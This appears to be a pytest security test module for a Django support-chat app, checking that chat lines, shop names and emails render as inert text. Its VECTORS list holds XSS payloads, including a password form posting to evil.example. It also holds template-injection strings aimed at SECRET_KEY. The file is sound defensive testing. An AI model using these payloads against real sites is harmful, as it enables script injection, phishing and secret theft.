"""What people write is text on every screen, in every mail and in the admin: X01 to X09, I10."""

import html
import re
import uuid
from typing import Any

import pytest
from django.conf import settings
from django.core import mail
from django.test import Client

from assist.actions.afterwards import request_transcript
from assist.actions.messages import Line, Posted, line_body, post_messages
from assist.actions.requests import request_assistance
from assist.mail import send_transcript
from assist.models import Event, Interaction, Outbox, Queue, Shop, WrapUpCode
from assist.realtime.db import run_orm
from assist.rules import limits
from assist.rules.refusals import Refused
from assist.rules.text import clean_message
from tests.attacks.conftest import Opens, talking
from tests.attacks.samples import line
from tests.attacks.test_headers import PAGES, _on, _policy
from tests.attacks.world import World, make_talk
from tests.cast import Cast, wish

VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<form action="//evil.example"><input name=password></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>@import '//evil.example'</style>",
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<div style="position:fixed;inset:0">x</div>',
    "\"'><script>alert(1)</script>",
]
TAG = re.compile(r"<\s*/?\s*(script|img|svg|math|noscript|xmp|form|iframe|base|div|a)\b", re.I)


@pytest.fixture
def world(db: None, blank_panel: None) -> World:
    """Everybody, and Gus talking to Ada."""
    return make_talk()


def _mailed(interaction: Interaction) -> tuple[str, str]:
    """The transcript's mail, as text and as a page."""
    Interaction.objects.filter(pk=interaction.pk).update(requester_email="gus@example.com")
    send_transcript({"interaction": interaction.pk, "outbox": 1})
    sent: Any = mail.outbox[-1]
    return str(sent.body), str(sent.alternatives[0][0])


def test_attack_x01_markup_in_a_line_is_text_for_ever(world: World) -> None:
    for vector in VECTORS:
        _says(world, vector)
    texts = Event.objects.filter(interaction=world.interaction, kind="message.posted").values_list(
        "body__text", flat=True
    )
    assert {clean_message(vector) for vector in VECTORS} <= set(texts)
    text, page = _mailed(world.interaction)
    assert all(clean_message(vector) in text for vector in VECTORS)
    assert TAG.search(page) is None
    assert all(clean_message(vector) in html.unescape(page) for vector in VECTORS)


def _says(world: World, text: str, role: str = "shopper") -> Posted:
    """Somebody in the conversation writes a line."""
    who, key = world.interaction.participants.get(role=role), uuid.uuid4()
    said = Line(world.interaction.pk, who.pk, key, False, line_body(text, key))
    [posted] = post_messages([said], tell=False)
    assert posted.verdict == "new"
    return posted


def test_attack_x02_an_address_that_is_no_https_is_never_a_link(world: World) -> None:
    for address in ("//evil.example", "javascript:alert(1)", "data:text/html,x", "\\\\evil.example"):
        _says(world, f"Look: {address}")
    assert "href=" not in _mailed(world.interaction)[1]


def test_attack_x03_names_are_inert_in_the_admin(world: World) -> None:
    script = "<script>alert(1)</script>"
    cast = world.cast
    Shop.objects.filter(pk=cast.lumo.pk).update(name=script)
    Queue.objects.filter(pk=world.interaction.queue_id).update(name=script)
    WrapUpCode.objects.filter(pk__in=WrapUpCode.objects.filter(shop=cast.lumo)[:1]).update(name=script)
    type(cast.ada).objects.filter(pk=cast.ada.pk).update(name=script)
    Interaction.objects.update(requester_name=script, first_message=script)
    root = world.client("root", "console")
    for table in ("shop", "queue", "wrapupcode", "agent", "interaction", "event", "participant", "offer", "contact"):
        page = root.get(f"/admin/assist/{table}/")
        assert page.status_code == 200, table
        assert script not in page.content.decode(), table
    first = Interaction.objects.values_list("pk", flat=True).first()
    assert script not in root.get(f"/admin/assist/interaction/{first}/change/").content.decode()


def test_attack_x03_names_are_inert_on_help_page_and_in_mails(world: World) -> None:
    script = "<script>alert(1)</script>"
    Shop.objects.filter(pk=world.cast.lumo.pk).update(name=script)
    for path in ("/help/lumo/", "/panel/lumo/"):
        assert script not in _on("widget").get(path).content.decode()
    world.interaction.participants.update(name=script)
    assert TAG.search(_mailed(world.interaction)[1]) is None
    assert "\n" not in mail.outbox[-1].subject


@pytest.mark.parametrize(("face", "path"), PAGES)
def test_attack_x04_no_page_of_ours_loads_anything_from_elsewhere(
    troupe: Cast, blank_panel: None, face: str, path: str
) -> None:
    policy = _policy(_on(face).get(path))
    ours = {"'self'", "'none'", "data:", settings.ASSIST_WIDGET_ORIGIN}
    for kind in ("img-src", "style-src", "font-src", "media-src", "object-src", "script-src", "frame-src"):
        assert set(policy.get(kind, policy["default-src"])) <= ours, kind


async def test_attack_x06_signs_that_an_agent_types_arrive_as_they_are(people: Cast, console: Opens) -> None:
    _, interaction = await talking(people)
    ada = await console(people.ada)
    await ada.told("desk.told")
    said = "5 < 6 > 4 & <b>bold</b> {name}"
    await ada.ask("message.send", interaction=interaction, **line(said))
    assert await ada.fact("message.posted", text=said)


@pytest.mark.parametrize(
    ("text", "fits"),
    [
        ("a" * 1000, True),
        ("a" * 1001, False),
        ("\N{GRINNING FACE}" * 1000, True),
        ("\N{GRINNING FACE}" * 1001, False),
        ("e" + "\u0301" * 500, True),
        ("\u202e" + "a" * 999, True),
    ],
    ids=["1,000", "1,001", "1,000 emoji", "1,001 emoji", "marks", "right to left"],
)
def test_attack_x07_a_line_has_a_thousand_code_points_exactly(world: World, text: str, fits: bool) -> None:
    assert limits.MESSAGE_CHARACTERS == 1000
    if fits:
        assert _says(world, text).seq
        return
    with pytest.raises(Refused) as refused:
        _says(world, text)
    assert refused.value.code == "invalid"


TEMPLATES = (
    "{{ settings.SECRET_KEY }} {% include 'x' %} {% load i18n %} {customer.__class__} ${7*7} %(shop)s {{ 7|add:7 }}"
)


def test_attack_x08_a_template_in_a_line_is_text(world: World) -> None:
    _says(world, TEMPLATES, "owner")
    text, page = _mailed(world.interaction)
    assert TEMPLATES in text
    assert html.unescape(page).count(TEMPLATES) == 1


def test_attack_x09_a_name_that_is_a_template_is_not_filled_in(world: World) -> None:
    name = "{{ settings.SECRET_KEY }} %(shop)s {name}"
    Shop.objects.filter(pk=world.cast.lumo.pk).update(name=name)
    interaction = request_assistance(world.cast.gus(), wish(name=name, email="gus@example.com"))
    text, page = _mailed(interaction)
    assert text.count(name) == 2
    assert name in html.unescape(page)
    assert settings.SECRET_KEY not in text + page
    assert mail.outbox[-1].subject == f"Your conversation with {name}"


def _ended(world: World, **more: str) -> Interaction:
    interaction = request_assistance(world.cast.gus(), wish(**more))
    Interaction.objects.filter(pk=interaction.pk).update(state="ended")
    return interaction


def test_attack_i10_a_transcript_goes_once_to_the_address_that_was_typed(world: World) -> None:
    interaction = _ended(world, email="gus@example.com")
    request_transcript(interaction.shopper, interaction)
    for _ in range(3):
        with pytest.raises(Refused):
            request_transcript(interaction.shopper, interaction)
    assert Outbox.objects.filter(payload__interaction=interaction.pk).count() == 1


def test_attack_i10_without_an_address_nothing_is_sent(world: World) -> None:
    interaction = _ended(world)
    with pytest.raises(Refused) as refused:
        request_transcript(interaction.shopper, interaction)
    assert refused.value.code == "invalid"


async def test_attack_i10_no_address_can_be_named_with_the_request(people: Cast, panel: Opens) -> None:
    token, interaction = await talking(people)
    gus = await panel(token)
    for name in ("email", "to", "address"):
        await gus.send("transcript.request", interaction=interaction, **{name: "mina@example.com"})
        assert (await gus.until(lambda notice: notice["type"] == "command.refused"))["code"] == "malformed"
    assert not await run_orm(Outbox.objects.exists)


def test_attack_i10_what_the_shop_signed_cannot_be_replaced_by_the_form(world: World) -> None:
    mina = world.cast.mina()
    interaction = request_assistance(mina, wish(email="zed@example.com"))
    assert interaction.requester_email == mina.email != "zed@example.com"


def test_attack_i10_a_stranger_gets_no_transcript(world: World) -> None:
    interaction = _ended(world, email="gus@example.com")
    with pytest.raises(Exception, match=r"matching query|no such"):
        request_transcript(world.cast.gus(), interaction)
    assert isinstance(_on("widget"), Client)
